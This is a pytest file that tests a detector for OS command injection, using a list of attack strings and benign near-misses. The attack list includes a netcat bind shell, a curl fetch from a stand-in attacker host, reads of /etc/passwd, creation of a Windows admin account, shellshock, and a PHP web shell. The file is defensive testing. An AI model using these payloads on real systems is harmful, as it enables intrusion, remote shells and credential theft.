"""OS command injection: a separator or substitution, then a command a shell would run."""

from __future__ import annotations

import pytest

from apishield.inspect import Inspector

ATTACKS = [
    pytest.param(";id", id="semicolon-id"),
    pytest.param("a|id|", id="pipe-id"),
    pytest.param("x && cat /etc/passwd", id="and-cat"),
    pytest.param("| nc -lvvp 4444 -e /bin/sh", id="netcat-shell"),
    pytest.param("`whoami`", id="backtick"),
    pytest.param("$(curl http://attacker.example/x.sh)", id="dollar-paren"),
    pytest.param("127.0.0.1%0Aid", id="encoded-newline"),
    pytest.param("host;/usr/bin/id", id="absolute-command"),
    pytest.param("& ping -n 30 127.0.0.1 &", id="windows-ping"),
    pytest.param("| net user hacker Password1 /ADD", id="windows-net-user"),
    pytest.param("& dir C:\\Users", id="windows-dir"),
    pytest.param("cat${IFS}/etc/passwd", id="ifs"),
    pytest.param("() { :;}; /bin/bash -c 'id'", id="shellshock"),
    pytest.param("<?php system($_GET['c']); ?>", id="php-tag"),
    pytest.param(";system('id')", id="php-system-call"),
    pytest.param('<!--#exec cmd="/bin/cat /etc/passwd"-->', id="server-side-include"),
    pytest.param("perl -e 'exec \"/bin/sh\"'", id="interpreter-e"),
    pytest.param("a;id\\n", id="literal-escape-after-command"),
    pytest.param("|| phpinfo()", id="or-phpinfo"),
    pytest.param(";phpinfo()", id="semicolon-phpinfo"),
    pytest.param("';phpinfo();//", id="quote-phpinfo-comment"),
]
BENIGN = [
    pytest.param("Tom & Jerry", id="ampersand-names"),
    pytest.param("AT&T", id="company"),
    pytest.param("salt; pepper; oregano", id="semicolon-list"),
    pytest.param("cats | dogs", id="pipe-words"),
    pytest.param("rm -rf", id="command-without-separator"),
    pytest.param("ps aux | grep nginx", id="search-for-pipeline"),
    pytest.param("Run `ls -la` in your terminal", id="markdown-inline-code"),
    pytest.param("npm install && npm test", id="npm-scripts"),
    pytest.param("cat food & cat litter", id="cat-food"),
    pytest.param("sleep well; eat well", id="sleep-prose"),
    pytest.param("| Name | ID | Price |\n|---|---|---|", id="markdown-table"),
    pytest.param("echo $PATH", id="variable-without-separator"),
    pytest.param("C:\\Program Files (x86)\\App\\app.exe", id="windows-path"),
]


@pytest.mark.parametrize("value", ATTACKS)
def test_attacks_are_found(inspector: Inspector, value: str) -> None:
    assert "cmdi" in [c for c, _ in inspector.score_value(value)]


@pytest.mark.parametrize("value", BENIGN)
def test_near_misses_pass(inspector: Inspector, value: str) -> None:
    assert inspector.score_value(value) == []
